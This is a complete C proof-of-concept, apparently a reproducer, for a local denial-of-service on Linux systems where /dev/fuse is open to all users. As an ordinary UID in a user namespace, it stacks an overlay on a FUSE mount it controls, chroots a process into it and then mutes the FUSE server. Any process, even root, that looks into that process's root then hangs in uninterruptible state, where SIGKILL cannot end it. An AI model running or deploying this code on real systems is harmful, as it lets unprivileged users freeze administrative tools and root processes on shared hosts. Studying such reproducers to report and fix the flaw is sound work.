/*
 * fuse-hang DEVICE UID: what any user may do where /dev/fuse is open to all. As UID, in a user namespace: a FUSE file system, an
 * overlay over it (which reads with the rights of who mounted it, so that root may look, too), a process whose root that is;
 * then the server takes questions and answers none. Prints the PID of that process. Whoever asks for that root waits until
 * the server dies: in state D, since the question is in its hands, so that SIGKILL does not end the wait.
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/fuse.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <sys/mount.h>
#include <sys/prctl.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <unistd.h>

static void must(int ok, const char *what)
{
	if (ok)
		return;
	printf("failed: %s: %s\n", what, strerror(errno));
	fflush(stdout);
	kill(0, SIGKILL);
}

static void put(const char *path, const char *text)
{
	int fd = open(path, O_WRONLY);
	must(fd >= 0 && write(fd, text, strlen(text)) > 0, path);
	close(fd);
}

/* One empty directory, for ever. */
static void serve(int fd, const volatile int *mute)
{
	static char in[1 << 17];
	struct {
		struct fuse_out_header head;
		union {
			struct fuse_init_out init;
			struct fuse_attr_out attr;
			struct fuse_statfs_out statfs;
			struct fuse_open_out open;
		} body;
	} out;
	for (;;) {
		const struct fuse_in_header *asked = (const void *)in;
		size_t more = 0;
		if (read(fd, in, sizeof in) < (ssize_t)sizeof *asked) {
			if (errno == ENODEV)
				_exit(0);
			usleep(1000); /* EPERM: not mounted yet */
			continue;
		}
		if (*mute)
			continue;
		memset(&out, 0, sizeof out);
		out.head.unique = asked->unique;
		switch (asked->opcode) {
		case FUSE_INIT:
			out.body.init = (struct fuse_init_out){ .major = 7, .minor = 31, .max_readahead = 4096, .max_write = 4096 };
			more = sizeof out.body.init;
			break;
		case FUSE_GETATTR:
			out.body.attr.attr = (struct fuse_attr){ .ino = 1, .mode = S_IFDIR | 0755, .nlink = 2 };
			more = sizeof out.body.attr;
			break;
		case FUSE_STATFS:
			more = sizeof out.body.statfs;
			break;
		case FUSE_OPENDIR:
			more = sizeof out.body.open;
			break;
		case FUSE_FORGET:
		case FUSE_BATCH_FORGET:
		case FUSE_INTERRUPT:
			continue;
		case FUSE_LOOKUP:
			out.head.error = -ENOENT;
			break;
		default:
			out.head.error = asked->opcode == FUSE_GETXATTR || asked->opcode == FUSE_LISTXATTR ? -ENODATA : -ENOSYS;
		}
		out.head.len = (unsigned)(sizeof out.head + more);
		if (write(fd, &out, out.head.len) < 0)
			continue;
	}
}

int main(int argc, char **argv)
{
	char map[64], options[128];
	if (argc != 3)
		return 2;
	unsigned id = (unsigned)atoi(argv[2]);
	setpgid(0, 0);
	prctl(PR_SET_PDEATHSIG, SIGKILL);
	must(setgid(id) == 0 && setuid(id) == 0 && prctl(PR_SET_DUMPABLE, 1) == 0, "setuid");
	must(unshare(CLONE_NEWUSER | CLONE_NEWNS) == 0, "unshare");
	put("/proc/self/setgroups", "deny");
	snprintf(map, sizeof map, "0 %u 1", id);
	put("/proc/self/uid_map", map);
	put("/proc/self/gid_map", map);
	int fd = open(argv[1], O_RDWR);
	must(fd >= 0, argv[1]);
	must(mount(NULL, "/", NULL, MS_REC | MS_PRIVATE, NULL) == 0 && mount("t", "/tmp", "tmpfs", 0, NULL) == 0, "mount tmpfs");
	must(mkdir("/tmp/served", 0755) == 0 && mkdir("/tmp/empty", 0755) == 0 && mkdir("/tmp/root", 0755) == 0, "mkdir");
	volatile int *mute = mmap(NULL, sizeof *mute, PROT_READ | PROT_WRITE, MAP_SHARED | MAP_ANONYMOUS, -1, 0);
	must(mute != MAP_FAILED, "mmap");
	if (fork() == 0)
		serve(fd, mute);
	snprintf(options, sizeof options, "fd=%d,rootmode=40000,user_id=0,group_id=0,allow_other", fd);
	must(mount("fuse", "/tmp/served", "fuse", MS_NOSUID | MS_NODEV, options) == 0, "mount fuse");
	close(fd);
	must(mount("overlay", "/tmp/root", "overlay", 0, "lowerdir=/tmp/served:/tmp/empty") == 0, "mount overlay");
	pid_t inside = fork();
	if (inside == 0) {
		must(chroot("/tmp/root") == 0 && chdir("/") == 0, "chroot");
		kill(getpid(), SIGSTOP); /* "I am there" */
		for (;;)
			pause();
	}
	must(waitpid(inside, NULL, WUNTRACED) == inside, "waitpid");
	*mute = 1;
	kill(inside, SIGCONT);
	printf("%d\n", (int)inside);
	fflush(stdout);
	for (;;)
		pause();
}
